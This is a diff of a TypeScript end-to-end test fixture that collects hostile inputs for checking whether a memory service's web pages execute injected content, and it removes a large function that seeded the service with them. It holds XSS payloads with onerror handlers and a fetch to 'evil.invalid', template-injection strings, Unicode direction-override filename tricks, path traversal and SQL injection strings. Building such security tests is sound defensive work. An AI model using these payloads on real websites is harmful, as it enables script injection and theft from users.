@@ -1,12 +1,10 @@
 // Texts that mean to be more than text. Whatever they would do leaves a trace that e2e/hostile.spec.ts looks for: a dialog,
 // a request to another host, an element or attribute with "hostile" in it, or the variable window.hostile.
-import type { NewConnector, Node } from "orgmem";
-import type { Service } from "./service";
 
 const act = "window.hostile=1;alert(1);fetch('https://evil.invalid/x')";
 
 /** Markup and links, by what they try. */
-const markup: Record<string, string> = {
+export const markup: Record<string, string> = {
   script: `<script data-hostile>${act}</script>`,
   unclosed: `"><script data-hostile src="https://evil.invalid/a.js">`,
   image: `<img data-hostile src="https://evil.invalid/p.png" onerror="${act}">`,
@@ -34,7 +32,7 @@ const markup: Record<string, string> = {
 };
 
 /** Syntax of templates, of Svelte first. */
-const templates: Record<string, string> = {
+export const templates: Record<string, string> = {
   svelte: `{@html "<img data-hostile src=x onerror=alert(1)>"}{#if true}{${act}}{/if}{@const x = alert(1)}`,
   braces: `{{constructor.constructor("alert(1)")()}} {{7*7}}`,
   dollar: "${alert(1)} #{7*7} [[${7*7}]]",
@@ -43,7 +41,7 @@ const templates: Record<string, string> = {
 };
 
 /** What looks like something else, or like nothing. */
-const odd: Record<string, string> = {
+export const odd: Record<string, string> = {
   override: "invoice \u202egnp.exe\u202c end",
   unclosedOverride: "\u202e\u2067all that follows is turned",
   isolates: "\u2066\u2067\u2068a\u2069b",
@@ -61,93 +59,13 @@ const odd: Record<string, string> = {
 /** Words that a program may take for a value. */
 const values = ["null", "undefined", "NaN", "true", "0", "-1", "[object Object]", "__proto__", "constructor", "toString", "1e999", "../../etc/passwd", "%00%2e%2e%2f", "' OR 1=1 --"];
 
+/** An id that a caller gives its request: visible characters of ASCII and no space. */
+export const requestId = `<img/data-hostile/src=x/onerror="alert(1)">`;
+
 export const texts: readonly string[] = [...Object.values(markup), ...Object.values(templates), ...Object.values(odd)];
 export const words: readonly string[] = values;
 /** A word that nothing breaks. */
 export const long = (length: number): string => "hostile".padEnd(length, "x");
-
-/** What was made of them, as the service has it. */
-export interface Made {
-  /** One for each text, which is its title, its content and a part of its external id; and one for each word. */
-  nodes: Node[];
-  /** Has all texts for its content. */
-  all: Node;
-  labels: string[];
-  subjects: string[];
-  urls: string[];
-  connectors: string[];
-  edge: string;
-  job: string;
-  webhook: string;
-  connector: string;
-  exported: string;
-}
-
-const visible = (text: string): boolean => /[\p{L}\p{N}\p{P}\p{S}]/u.test(text);
-const fits = (text: string, bytes: number): boolean => Buffer.byteLength(text) <= bytes;
-
-/** Puts the texts wherever the interface takes a text. */
-export async function fill({ memory, receiver }: Service): Promise<Made> {
-  const given = [...texts, ...words];
-  const items = given.map((text, i) => ({
-    content: text.repeat(2),
-    title: text.slice(0, 500),
-    externalId: `${text}#${i}`.slice(0, 512),
-    metadata: { tags: [text, text], [text.slice(0, 200)]: text, nested: { [text.slice(0, 100)]: [{ text }] } },
-  }));
-  await memory.add([...items, { content: texts.join("\n"), title: "All at once <b data-hostile>", externalId: "hostile-all" }, { content: long(4_000), title: long(400), externalId: "hostile-long" }], {
-    wait: true,
-    waitFor: 240_000,
-  });
-  // Two that contradict each other, and say more than they should.
-  const job = await memory.add(
-    [
-      { content: `The bakery is open from 6:30 on weekdays. ${markup["image"]}`, externalId: "hostile-early" },
-      { content: `The bakery is open from 7:00 on weekdays. ${markup["script"]}`, externalId: "hostile-late" },
-    ],
-    { wait: true },
-  );
-  const nodes = await Promise.all(
-    items.map(async ({ externalId }) => {
-      const node = await memory.find(externalId);
-      if (!node) throw new Error(`nothing has the external id ${JSON.stringify(externalId)}`);
-      return node;
-    }),
-  );
-  const all = (await memory.find("hostile-all"))!;
-  const edge = await memory.edges.assert({ source: all.id, target: nodes[0]!.id, type: "related" });
-  await memory.update(nodes[1]!.id, { title: markup["script"]! });
-  await memory.supersede(nodes[2]!.id, `${markup["vector"]} instead`, markup["form"]!);
-  await memory.delete(nodes[3]!.id);
-
-  const labels = given.filter((t) => visible(t) && [...t].length <= 200);
-  for (const label of labels.slice(0, 24)) await memory.keys.create({ label, scopes: ["read"] });
-  for (const label of labels.slice(24)) await memory.sandbox.keys.create({ label, ttlSeconds: 3_600 });
-
-  const subjects = given.filter((t) => fits(t, 256) && !/\p{Cc}/u.test(t)).slice(0, 45);
-  for (const id of subjects) {
-    await memory.subjects.put(id);
-    if (/script|__proto__|gnp/.test(id)) await memory.subject(id).add(`${markup["image"]} of ${id}`);
-  }
-
-  const path = (text: string): string => `https://localhost:${receiver.port}/` + text.replace(/[^\x21-\x7e]/g, "_");
-  const urls = [...Object.values(markup), ...Object.values(templates)].map(path).slice(0, 15);
-  const hooks = [];
-  for (const address of urls) hooks.push(await memory.webhooks.create({ url: address, eventTypes: ["webhook.test"] }));
-  await memory.webhooks.test(hooks[0]!.id);
-
-  const connectors = labels.slice(0, 20);
-  let connector = "";
-  for (const name of connectors)
-    // The generated type of config is that of no kind: see src/views/trust/connectors.ts.
-    connector = (await memory.connectors.create({ type: "feed", name, enabled: false, config: { url: path(name) } } as unknown as NewConnector)).id;
-
-  // A file's name and a session's id are the client's, too. Neither is waited for: what they become is not looked at by name.
-  await memory.imports.upload(new File([`${markup["image"]}\n\nA letter about ${markup["script"]}.`], `${markup["element"]}.md`));
-  await memory.sessions.push({ sessionId: markup["script"]!, role: "user", text: `${markup["image"]} ${odd["override"]}`, cwd: markup["element"]! });
-  const { exportId } = await memory.exports.create({});
-  return { nodes, all, labels: labels.slice(0, 24), subjects, urls, connectors, edge: edge.id, job: job.id, webhook: hooks[0]!.id, connector, exported: exportId };
-}
 
 /** What a hostile text has become beside text. It runs in the page, and so uses nothing from here. */
 export function traces(): string[] {
